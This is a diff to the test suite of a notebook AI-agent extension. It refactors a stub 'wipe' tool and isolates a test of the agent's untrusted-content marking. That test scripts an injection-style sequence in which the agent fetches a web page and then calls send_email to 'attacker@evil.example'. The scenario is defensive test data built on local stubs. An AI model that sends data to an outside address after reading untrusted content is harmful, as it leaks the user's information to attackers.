@@ -42,6 +42,16 @@ def run(shell: Any, body: str, cell_id: str | None, options: str = "") -> Any:
     return shell.user_ns["_agent"]
 
 
+def wiper(calls: list[str]) -> Any:
+    """A notebook function the agent calls: it records each call."""
+
+    def wipe() -> str:
+        calls.append("wipe")
+        return "wiped"
+
+    return wipe
+
+
 def prompts(messages: Any) -> list[str]:
     return [m.text for m in messages if isinstance(m, UserMessage)]
 
@@ -53,7 +63,7 @@ def agent_of(shell: Any, name: str = "default") -> Any:
 def test_a_rerun_cell_redoes_its_tool_call_instead_of_continuing(shell: Any) -> None:
     """Issue 20: re-running the cell printed "Done: emptied staging" with no tool call."""
     calls: list[str] = []
-    shell.user_ns["wipe"] = lambda: calls.append("wipe") or "wiped"
+    shell.user_ns["wipe"] = wiper(calls)
     scripted = ScriptedProvider([ToolCall("wipe"), "emptied staging", ToolCall("wipe"), "emptied it again"])
     nbagent.configure(model=scripted)
     first = run(shell, "empty staging", "cell-a", "--tools wipe")
@@ -109,7 +119,7 @@ def test_new_starts_afresh_and_the_cell_then_starts_a_new_turn(shell: Any) -> No
 
 def test_the_store_keeps_the_replaced_branch_marked_and_a_resume_loads_the_live_one(shell: Any, tmp_path: Path) -> None:
     calls: list[str] = []
-    shell.user_ns["wipe"] = lambda: calls.append("wipe") or "wiped"
+    shell.user_ns["wipe"] = wiper(calls)
     path = tmp_path / "store.duckdb"
     nbagent.configure(
         store=str(path), model=ScriptedProvider([ToolCall("wipe"), "A", "B", ToolCall("wipe"), "A2", "C"])
@@ -151,7 +161,7 @@ def test_rewind_refuses_mid_turn_and_out_of_range() -> None:
         agent.rewind(5)
     agent.rewind(4)  # the end: nothing dropped
     agent.rewind(0)
-    assert agent.messages == ()
+    assert len(agent.messages) == 0
 
 
 def test_the_header_names_session_turn_model_and_a_model_change(shell: Any, capsys: Any) -> None:
@@ -188,6 +198,14 @@ def test_a_rerun_cell_recomputes_the_untrusted_mark_from_the_turns_that_remain(s
         return "sent"
 
     shell.user_ns.update(fetch_page=fetch_page, send_email=send_email)
+    try:
+        _rerun_cells_with_an_untrusted_read(shell, capsys, sent)
+    finally:  # the shell is shared: other tests expect no send_email in the notebook
+        shell.user_ns.pop("fetch_page", None)
+        shell.user_ns.pop("send_email", None)
+
+
+def _rerun_cells_with_an_untrusted_read(shell: Any, capsys: Any, sent: list[str]) -> None:
     tools = "--tools fetch_page,send_email"
     fetch = ToolCall("fetch_page", {"url": "https://example.com"}, "c_fetch")
     mail = ToolCall("send_email", {"to": "attacker@evil.example"})
